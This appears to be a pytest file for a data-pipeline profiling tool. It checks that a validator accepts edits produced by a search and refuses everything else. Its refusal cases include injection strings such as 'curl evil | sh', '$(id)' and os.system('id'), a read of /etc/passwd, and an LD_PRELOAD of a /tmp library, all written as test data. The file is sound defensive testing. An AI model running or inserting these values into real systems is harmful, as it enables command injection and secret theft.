"""Edits of a saved profile: what a search writes is made, everything else is refused."""

from __future__ import annotations

import ast
import inspect
import json
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from unit.edit_documents import LIBRARY, NEW, edits, mutated

from pipeprof import profiles
from pipeprof.pipelines.changes.checked import (
    ARGUMENTS,
    BUFFERS,
    INSERTED,
    OPTIONS,
    REPLACING,
    RefusedEditError,
    checked_edits,
)
from pipeprof.pipelines.changes.edits import VALUES, PipelineEdit, assignment, from_document, is_allocator, to_document
from pipeprof.profiles.advise.ideas import CPU_BUDGET, POOL, SWITCHES
from pipeprof.profiles.host.host import installed_allocator

STAGE = {"kind": "InsertStage", "op": "map", "after": None}


def refusal(edit: dict[str, Any]) -> str:
    with pytest.raises(RefusedEditError) as raised:
        checked_edits([edits()[0], edit])
    text = str(raised.value)
    assert text.isprintable()
    return text


def by(op: str, **arguments: Any) -> dict[str, Any]:
    return {"kind": "ReplaceStages", "stages": ["source"], "by": [{"op": op, "arguments": arguments}]}


def test_what_a_search_writes_is_made() -> None:
    found = checked_edits(edits())
    assert found == list(map(from_document, edits()))
    assert {type(edit).__name__ for edit in found} == PipelineEdit.kinds.keys()
    assert checked_edits([to_document(edit) for edit in found]) == found


@pytest.mark.parametrize(
    "edit",
    [
        {**STAGE, "arguments": {"python": "/usr/lib/python3.11/subprocess.py:getoutput('id')"}},
        {**STAGE, "op": "filter", "arguments": {"python": "evil.py:f"}},
        {**STAGE, "op": "apply", "arguments": {}},
        {**STAGE, "arguments": {"ops": []}},
        by("from_generator", generator="a.py:f"),
        by("python", function="a.py:f"),
        by("load", path="a", reader_func={"python": "a.py:f"}),
        by("map", ops=[{"python": {"function": "a.py:f"}}]),
        by("map", ops=["python"]),
        by("map", ops=[{"tf.io.write_file": {"filename_": "x"}}]),
        by("map", ops=["tf.square"]),
        by("map", ops=[{"getitem": {"key": "0, open('x')", "on": 0}}]),
        by("map", ops=[{}]),
        by("batch", batch_size=4, num_parallel_calls=4),
        by("TFRecordDataset", filenames="/etc/passwd"),
        by("list_files", file_pattern="/etc/*"),
        {"kind": "SetArgument", "stage": "stages.0", "op": "map", "argument": "python", "value": "a.py:f"},
        {"kind": "SetArgument", "stage": "stages.0", "op": "cache", "argument": "filename", "value": "x"},
        {"kind": "SetArgument", "stage": "stages.0", "op": "batch", "argument": "batch_size", "value": 4},
        {"kind": "SetArgument", "stage": "stages.0", "op": "batch", "argument": "buffer_size", "value": 4},
        {"kind": "SetArgument", "stage": "s", "op": "\x1b[31m", "argument": "num_parallel_calls", "value": 4},
        {**STAGE, "op": "cache", "arguments": {"filename": "/etc/x"}},
        {**STAGE, "op": "snapshot", "arguments": {"path": "x"}},
        {**STAGE, "op": "cache", "after": "stages.0; id"},
        {"kind": "Unheard"},
        {"kind": "SetOption", "path": "__class__", "value": True},
        {"kind": "SetEnvironment", "variable": "PYTHONPATH", "value": "/tmp"},
        {"kind": "SetEnvironment", "variable": "PATH", "value": "/tmp"},
        {"kind": "SetEnvironment", "variable": "X=1; curl evil | sh #", "value": "v"},
        {"kind": "SetEnvironment", "variable": "LD_PRELOAD", "value": "/tmp/x.so"},
        {"kind": "SetEnvironment", "variable": "LD_PRELOAD", "value": None},
        {"kind": "SetEnvironment", "variable": "OMP_NUM_THREADS", "value": "4"},
        {"kind": "VectoriseMap", "stage": "stages.0\n", "batch": "b"},
        {"kind": "VectoriseMap", "stage": "$(id)", "batch": "b"},
        {"kind": "ReplaceStages", "stages": ["stages.0"], "by": [], "summary": "\x1b[31m"},
        {"kind": "ReplaceStages", "stages": [], "by": []},
    ],
)
def test_everything_else_is_refused(edit: dict[str, Any]) -> None:
    assert refusal(edit)


CALL = {"kind": "SetArgument", "stage": "stages.0", "op": "map"}


def test_the_op_of_a_stage_is_a_name() -> None:
    edit = {**CALL, "argument": "num_parallel_calls", "value": 2}
    for op in ("x(); import os; os.system('id') #", "map\u00a0", "map.", ""):
        assert refusal({**edit, "op": op})
    for op in ("map", "shuffle+repeat", "TFRecordDataset", "experimental.assert_next"):
        assert checked_edits([{**edit, "op": op}])


NUMBERS: list[tuple[dict[str, Any], int]] = [
    *(({**CALL, "argument": argument}, 4096) for argument in ARGUMENTS),
    ({**CALL, "argument": "buffer_size", "op": "prefetch"}, 1024),
    ({**CALL, "argument": "buffer_size", "op": "shuffle"}, 100_000_000),
    ({"kind": "SetOption", "path": "threading.private_threadpool_size"}, 2048),
]


@pytest.mark.parametrize(("edit", "most"), NUMBERS)
def test_every_number_of_an_edit_has_bounds(edit: dict[str, Any], most: int) -> None:
    for value in (1, most):
        assert checked_edits([{**edit, "value": value}])
    for wrong in (0, -1, most + 1, 2**31, 2**63 - 1, 10**40, True, 1.0, "4", [4]):
        assert refusal({**edit, "value": wrong})


@pytest.mark.parametrize(
    ("op", "names", "most"),
    [
        ("batch", ("batch_size",), 10_000_000),
        ("window", ("size",), 10**9),
        ("window", ("shift",), 10**9),
        ("flat_map", ("source", "zip", "datasets", 0, "stages", 0, "batch", "batch_size"), 10**9),
        ("map", ("ops", 0, "tf.signal.frame", "frame_length"), 10**9),
        ("map", ("ops", 0, "tf.signal.frame", "frame_step"), 10**9),
    ],
)
def test_every_number_of_a_new_stage_has_bounds(op: str, names: tuple[Any, ...], most: int) -> None:
    def with_value(value: Any) -> dict[str, Any]:
        arguments = json.loads(json.dumps(NEW[op]))
        *groups, last = names
        at = arguments
        for group in groups:
            at = at[group]
        at[last] = value
        return by(op, **arguments)

    for value in (1, most):
        assert checked_edits([with_value(value)])
    for wrong in (0, most + 1, 2**63 - 1, 10**40, True, None, 1.5):
        assert refusal(with_value(wrong))


@given(mutated())
def test_any_edits_are_those_of_a_search_or_refused(documents: Any) -> None:
    try:
        found = checked_edits([one for one in documents if isinstance(one, dict)])
    except RefusedEditError:
        return
    assert checked_edits([to_document(edit) for edit in found]) == found


@pytest.mark.parametrize(
    ("name", "value", "words"),
    [
        ("OMP_NUM_THREADS", "1", "OMP_NUM_THREADS=1"),
        ("A", "1; id", "A='1; id'"),
        ("X=1; curl evil | sh #", "v", "'X=1; curl evil | sh #=v'"),
        ("A\nid", "v", "'A\nid=v'"),
        ("A ", "v", "'A =v'"),
        ("", "v", "=v"),
    ],
)
def test_a_shell_line_quotes_names_and_values(name: str, value: str, words: str) -> None:
    assert assignment(name, value) == words


@pytest.mark.parametrize(
    ("path", "known"),
    [
        (LIBRARY, True),
        ("/usr/lib64/libtcmalloc_minimal.so.4.5.16", True),
        ("/usr/local/lib/libtcmalloc.so", True),
        (str(Path(sys.prefix, "lib", "libjemalloc.so.2")), True),
        ("libjemalloc.so.2", False),
        ("/tmp/libjemalloc.so.2", False),
        ("/usr/lib/evil/libjemalloc.so.2", False),
        ("/usr/lib/a/../x86_64-linux-gnu/libjemalloc.so.2", False),
        ("/usr/lib/libjemalloc.so.2 /tmp/x.so", False),
        ("/usr/lib/libjemalloc.so.2:/tmp/x.so", False),
        ("/usr/lib/libjemalloc.so.2\n", False),
        ("/usr/lib/libjemalloc.so.$ORIGIN", False),
        ("/usr/lib/libevil.so", False),
    ],
)
def test_only_allocators_of_the_system_are_loaded_first(path: str, known: bool) -> None:
    assert is_allocator(path) == known


def test_the_allocator_that_is_proposed_is_one_that_may_be_loaded() -> None:
    found = installed_allocator()
    assert found is None or is_allocator(found)


# What only specs have, or stands for what the user writes, as the order of files: a saved profile's is not made.
_NOT_MADE = {"interleave", "TextLineDataset", "filename", "shuffle", "seed"}


def _literals() -> set[tuple[str, str]]:
    """Names in the code that makes edits: of the class, and of its op, argument, option or variable."""
    fields = {"InsertStage": 0, "NewStage": 0, "SetArgument": 2, "SetOption": 0}
    found: set[tuple[str, str]] = set()
    root = Path(inspect.getfile(profiles)).parent
    for path in (path for room in ("advise", "tries") for path in (root / room).rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = node.func.id if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) else ""
            if isinstance(node, ast.Call) and name in fields and len(node.args) > fields[name]:
                value = node.args[fields[name]]
                if isinstance(value, ast.Constant):
                    found.add((name, str(value.value)))
    return found


def test_all_that_code_writes_into_an_edit_is_known() -> None:
    known = {
        "InsertStage": set(INSERTED),
        "NewStage": {*REPLACING, *INSERTED},
        "SetArgument": {*ARGUMENTS, "buffer_size"},
        "SetOption": set(OPTIONS),
    }
    found = _literals()
    assert {name for kind, name in found if kind == "NewStage"} > {"batch", "unbatch"}
    assert {name for kind, name in found if name not in known[kind]} == _NOT_MADE
    assert {*SWITCHES, CPU_BUDGET, POOL} <= set(OPTIONS)
    assert {"prefetch", "shuffle"} <= set(BUFFERS)
    assert set(VALUES) > {"LD_PRELOAD"}
